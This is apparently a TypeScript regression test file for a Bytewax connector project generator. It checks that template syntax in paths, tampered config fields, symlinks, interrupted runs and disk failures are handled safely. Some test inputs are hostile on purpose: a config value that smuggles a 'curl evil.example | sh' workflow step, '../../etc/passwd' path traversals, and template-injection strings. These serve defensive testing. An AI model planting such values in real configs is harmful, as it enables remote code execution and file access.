/**
 * Regression tests for the ways a run could harm a user's files or run their
 * input as code: template syntax in paths, a tampered `.yo-rc.json`, symbolic
 * links, runs cut off part-way, conflicts in composed generators, and the
 * file-system failures that must end in one clear line.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { CLI, listFiles, readTree } from './helpers/paths.js';
import { onlyOnPosix, onlyWithTmpfsMounts } from './helpers/platform.js';
import { runGenerator } from './helpers/run.js';
import { makeProject } from './helpers/source-slice.js';

const BASE = ['--yes', '--author-name', 'Ada', '--skip-install'];

function runCli(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
  const result = spawnSync(process.execPath, [CLI, ...args], {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', ...env },
  });
  return { status: result.status, signal: result.signal, stdout: result.stdout, stderr: result.stderr };
}

/** Runs the CLI in a private mount namespace with a tmpfs at `dir` (`options` as for mount -o). */
function runCliOnTmpfs(dir: string, options: string, args: string[]) {
  const script = 'mount -t tmpfs -o "$1" tmpfs "$2" && shift 2 && exec "$@"';
  const result = spawnSync('unshare', ['--map-root-user', '--mount', 'sh', '-c', script, 'sh', options, dir, process.execPath, CLI, ...args], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
  });
  return { status: result.status, stderr: result.stderr };
}

function editConfig(dir: string, patch: (config: Record<string, unknown>) => void): void {
  const file = path.join(dir, '.yo-rc.json');
  const data = JSON.parse(fs.readFileSync(file, 'utf8'));
  patch(data['generator-bytewax-connector']);
  fs.writeFileSync(file, JSON.stringify(data, null, 2));
}

const assertUserError = (status: number | null, stderr: string, message: RegExp) => {
  assert.equal(status, 1, stderr);
  assert.match(stderr, message);
  assert.doesNotMatch(stderr, /\n\s+at /, 'no stack trace');
};

describe('safety', () => {
  let work: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'bytewax-safety-'));
  });
  afterEach(() => fs.rmSync(work, { recursive: true, force: true }));

  describe('template syntax in a path is a name, never code', () => {
    it('writes into a directory named literally after the argument', async function () {
      onlyOnPosix(this);
      const marker = '__bytewax_pwned';
      const names = ['w<%= 1+1 %>', `p<% globalThis.${marker} = true %>`];
      for (const name of names) {
        await runGenerator('app').cd(work).withArguments([name]).withOptions({ yes: true, skipInstall: true, authorName: 'Ada', ci: false });
        assert.ok(fs.existsSync(path.join(work, name, 'pyproject.toml')), name);
      }
      assert.equal((globalThis as Record<string, unknown>)[marker], undefined, 'the template code ran');
      assert.ok(!fs.existsSync(path.join(work, 'w2')));
    });
  });

  describe('a tampered .yo-rc.json is refused, naming the file and the field', () => {
    let project: string;
    beforeEach(async () => {
      // In the test's own folder, so that a write beside the project would show.
      project = await makeProject({ ci: true }, work);
    });

    const cases: Array<[string, (config: Record<string, unknown>) => void, string, RegExp]> = [
      ['a package that climbs out of the project', (c) => (c['packageName'] = '../../../x'), 'partitioned', /packageName is "\.\.\/\.\.\/\.\.\/x", which is not a valid import package/],
      ['a newline that would inject a workflow step', (c) => (c['packageName'] = 'shop\n      - run: curl evil.example | sh'), 'ci', /packageName is "shop\\u\{a\}/],
      ['a source list of the wrong type', (c) => (c['sources'] = 'orders'), 'dynamic', /generator-bytewax-connector\.sources is a string \("orders"\), not a list\./],
      ['a source of an unknown kind', (c) => (c['sources'] = [{ name: 'x', kind: 'sink-ish' }]), 'partitioned', /sources\[0\]\.kind has an unknown kind/],
      ['a source name that is a path', (c) => (c['sources'] = [{ name: '../../etc/passwd', kind: 'partitioned' }]), 'ci', /sources\[0\]\.name is "\.\.\/\.\.\/etc\/passwd"/],
      ['a sink of an unknown kind', (c) => (c['sinks'] = [{ name: 'x', kind: 'sideways' }]), 'sink', /sinks\[0\]\.kind has an unknown kind: use one of dynamic, partitioned/],
      ['a sink name that is a path', (c) => (c['sinks'] = [{ name: '../../etc/passwd', kind: 'dynamic' }]), 'partitioned', /sinks\[0\]\.name is "\.\.\/\.\.\/etc\/passwd"/],
    ];
    for (const [what, tamper, generator, message] of cases) {
      it(`${what}: \`${generator}\` stops and writes nothing`, () => {
        editConfig(project, tamper);
        const before = readTree(project);
        const outside = listFiles(path.dirname(project)).length;
        const args = generator === 'ci' ? [generator, '--yes'] : [generator, 'orders', '--yes'];
        const { status, stderr } = runCli(args, project);
        assertUserError(status, stderr, new RegExp(`^error: ${project.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/\\.yo-rc\\.json is not a project this generator can work on: generator-bytewax-connector\\.`, 'm'));
        assert.match(stderr, message);
        assert.deepEqual(readTree(project), before);
        assert.equal(listFiles(path.dirname(project)).length, outside);
      });
    }

    it('re-running the app on it stops too, rather than trusting the stored answers', () => {
      editConfig(project, (c) => (c['license'] = 'WTFPL'));
      const before = readTree(project);
      const { status, stderr } = runCli(['.', '--yes', '--skip-install'], project);
      assertUserError(status, stderr, /generator-bytewax-connector\.license is "WTFPL", which is not one of Apache-2\.0, MIT, BSD-3-Clause, Proprietary/);
      assert.deepEqual(readTree(project), before);
    });
  });

  describe('symbolic links are never written through', () => {
    it('a dangling link where the new module goes', async function () {
      onlyOnPosix(this);
      const project = await makeProject();
      const target = path.join(work, 'outside.py');
      fs.symlinkSync(target, path.join(project, 'src/bytewax_shop/orders.py'));
      const before = readTree(project);
      const { status, stderr } = runCli(['partitioned', 'orders', '--yes'], project);
      assertUserError(status, stderr, /^error: src\/bytewax_shop\/orders\.py is a symbolic link \(to ".*outside\.py"\); the generator never writes through links\. Nothing was written\.$/m);
      assert.ok(!fs.existsSync(target));
      assert.deepEqual(readTree(project), before);
      fs.rmSync(project, { recursive: true, force: true });
    });

    it('a README that links to a file elsewhere', async function () {
      onlyOnPosix(this);
      const project = await makeProject();
      const elsewhere = path.join(work, 'README.md');
      fs.renameSync(path.join(project, 'README.md'), elsewhere);
      fs.symlinkSync(elsewhere, path.join(project, 'README.md'));
      const text = fs.readFileSync(elsewhere, 'utf8');
      const { status, stderr } = runCli(['partitioned', 'orders', '--yes'], project);
      assertUserError(status, stderr, /^error: README\.md is a symbolic link/m);
      assert.equal(fs.readFileSync(elsewhere, 'utf8'), text);
      assert.ok(!fs.existsSync(path.join(project, 'src/bytewax_shop/orders.py')));
      fs.rmSync(project, { recursive: true, force: true });
    });
  });

  describe('a run cut off part-way is completed by running the same command again', () => {
    const crash = { GENERATOR_BYTEWAX_CONNECTOR_CRASH_AFTER_WRITES: '6' };

    it('the app: the re-run undoes the partial project and writes it whole', function () {
      onlyOnPosix(this);
      const args = ['proj', ...BASE, '--partitioned', 'orders'];
      const killed = runCli(args, work, crash);
      assert.equal(killed.signal, 'SIGKILL', killed.stderr);
      assert.ok(fs.existsSync(path.join(work, 'proj', '.generator-bytewax-connector.journal.json')));
      assert.ok(!fs.existsSync(path.join(work, 'proj', '.yo-rc.json')), '.yo-rc.json is written last');
      const again = runCli(args, work);
      assert.equal(again.status, 0, again.stderr);
      assert.match(again.stderr, /A previous run \(".*proj .*--partitioned orders"\) was cut off part-way; undid its 6 file change\(s\)/);
      const clean = path.join(work, 'clean');
      fs.mkdirSync(clean);
      assert.equal(runCli(args, clean).status, 0);
      assert.deepEqual(readTree(path.join(work, 'proj')), readTree(path.join(clean, 'proj')));
    });

    it('a slice: README and __init__.py get their insertions once', async function () {
      onlyOnPosix(this);
      const project = await makeProject();
      const killed = runCli(['partitioned', 'orders', '--yes'], project, { GENERATOR_BYTEWAX_CONNECTOR_CRASH_AFTER_WRITES: '4' });
      assert.equal(killed.signal, 'SIGKILL');
      const again = runCli(['partitioned', 'orders', '--yes'], project);
      assert.equal(again.status, 0, again.stderr);
      const readme = fs.readFileSync(path.join(project, 'README.md'), 'utf8');
      assert.equal(readme.split('### `OrdersSource`').length - 1, 1);
      const init = fs.readFileSync(path.join(project, 'src/bytewax_shop/__init__.py'), 'utf8');
      assert.equal(init.split('from .orders import').length - 1, 1);
      assert.ok(!fs.existsSync(path.join(project, '.generator-bytewax-connector.journal.json')));
      fs.rmSync(project, { recursive: true, force: true });
    });
  });

  describe('your changes and the generator\'s, in one file', () => {
    it('an edit where the generator changes nothing is kept by a re-run; one on the lines a new answer changes is refused without a terminal, overwritten with --force', () => {
      const args = ['proj', ...BASE, '--ci'];
      assert.equal(runCli(args, work).status, 0);
      const ci = path.join(work, 'proj', '.github/workflows/ci.yml');
      const original = fs.readFileSync(ci, 'utf8');
      fs.writeFileSync(ci, `${original}# mine\n`);
      const kept = runCli(args, work);
      assert.equal(kept.status, 0, kept.stderr);
      assert.equal(fs.readFileSync(ci, 'utf8'), `${original}# mine\n`);
      // The matrix lists the supported Pythons: the user drops one, the new answer drops another.
      fs.writeFileSync(ci, original.replace('          - "3.10"\n', ''));
      const refused = runCli([...args, '--python', '3.12'], work);
      assertUserError(refused.status, refused.stderr, /These files differ from what the generator would write, and no terminal is attached to ask:\n {2}\.github\/workflows\/ci\.yml\nNothing was written\./);
      assert.equal(runCli([...args, '--python', '3.12', '--force'], work).status, 0);
      assert.doesNotMatch(fs.readFileSync(ci, 'utf8'), /- "3\.1[01]"/);
    });

    it('a changed answer in a terminal updates the files you left alone, merges the ones you changed elsewhere, and asks only about overlapping ones', async () => {
      const project = await makeProject({ ci: true });
      const pyprojectPath = path.join(project, 'pyproject.toml');
      const readmePath = path.join(project, 'README.md');
      // Overlapping: the description line itself. Elsewhere: a line of the README's own.
      fs.writeFileSync(pyprojectPath, fs.readFileSync(pyprojectPath, 'utf8').replace('description = "A Bytewax connector."', 'description = "Mine."'));
      fs.writeFileSync(readmePath, `${fs.readFileSync(readmePath, 'utf8')}\nMy own closing words.\n`);
      const context = runGenerator('app')
        .cd(project)
        .withOptions({ skipInstall: true })
        .withAnswers({ description: 'Reads orders.', choice: 'theirs' });
      await context;
      const asked = context.askedQuestions.filter((q) => q.name === 'choice');
      assert.equal(asked.length, 1, 'asked about the one overlapping file');
      assert.match(fs.readFileSync(pyprojectPath, 'utf8'), /description = "Reads orders\."/);
      const readme = fs.readFileSync(readmePath, 'utf8');
      assert.match(readme, /^Reads orders\.$/m);
      assert.match(readme, /My own closing words\.\n$/);
      assert.match(fs.readFileSync(path.join(project, 'src/bytewax_shop/__init__.py'), 'utf8'), /Project description: Reads orders\./);
      fs.rmSync(project, { recursive: true, force: true });
    });
  });

  describe('flags are checked before the first question', () => {
    it('a bad --license stops before anything is asked', async () => {
      const context = runGenerator('app').cd(work).withOptions({ skipInstall: true, license: 'GPL' }).withAnswers({ distName: 'bytewax-x' });
      await assert.rejects(context, /--license "GPL" is not one of/);
      assert.deepEqual(context.askedQuestions, []);
    });
  });

  describe('file-system failures end in one line, exit 1, nothing written', () => {
    it('a target that is a file', () => {
      fs.writeFileSync(path.join(work, 'taken'), 'x');
      const { status, stderr } = runCli(['taken', ...BASE], work);
      assertUserError(status, stderr, /^error: ".*taken" is a file, so the project cannot be created there\.\nChoose a directory/m);
    });

    it('a directory name too long for the file system', function () {
      onlyOnPosix(this);
      const { status, stderr } = runCli(['p'.repeat(300), ...BASE], work);
      assertUserError(status, stderr, /^error: The name "p{80}…" in ".*" is longer than 255 bytes, which file systems refuse\.$/m);
      assert.deepEqual(listFiles(work), []);
    });

    it('a read-only file system', function () {
      onlyWithTmpfsMounts(this);
      const { status, stderr } = runCliOnTmpfs(work, 'ro', ['proj', ...BASE]);
      assertUserError(status, stderr, /^error: Cannot write in .*: the file system is read-only \(EROFS\)\. Nothing was written\.$/m);
    });

    it('a file system running out of inodes at any point: undone whole, folders included, so the same command can run again', function () {
      onlyWithTmpfsMounts(this);
      // Each inode count runs out at another write: a file, or a folder on the way to one.
      const script =
        'root="$1"; shift; for n in 8 9 10 11 12 13 14 15 16 17 18 19 20; do ' +
        'mount -t tmpfs -o size=8m,nr_inodes=$n tmpfs "$root" && cd "$root" && ' +
        '{ "$@"; "$@"; echo "left $n: $(find . -mindepth 1 | wc -l)"; }; cd /; umount "$root"; done';
      const result = spawnSync('unshare', ['--map-root-user', '--mount', 'sh', '-c', script, 'sh', work, process.execPath, CLI, 'proj', ...BASE, '--partitioned', 'orders'], {
        cwd: work,
        encoding: 'utf8',
        env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
      });
      for (const line of result.stdout.split('\n').filter((l) => l.startsWith('left '))) assert.match(line, /: 0$/, `a failed run left files behind (${line})`);
      assert.equal(result.stdout.split('\n').filter((l) => l.startsWith('left ')).length, 13, result.stdout + result.stderr);
      for (const error of result.stderr.split('\n').filter((line) => line.startsWith('error: '))) {
        assert.match(error, /^error: (Could not write|Could not start writing|Not enough free space|Cannot write in) .*(no space left on the device|Every change of this run was undone|KiB free)/);
      }
      assert.doesNotMatch(result.stderr, /holds \d+ file\(s\)/);
    });

    it('a full disk', function () {
      onlyWithTmpfsMounts(this);
      const { status, stderr } = runCliOnTmpfs(work, 'size=64k', ['proj', ...BASE, '--partitioned', 'orders']);
      assertUserError(status, stderr, /^error: Not enough free space in .*: \d+ KiB needed, \d+ KiB free\. Nothing was written\.$/m);
    });
  });
});
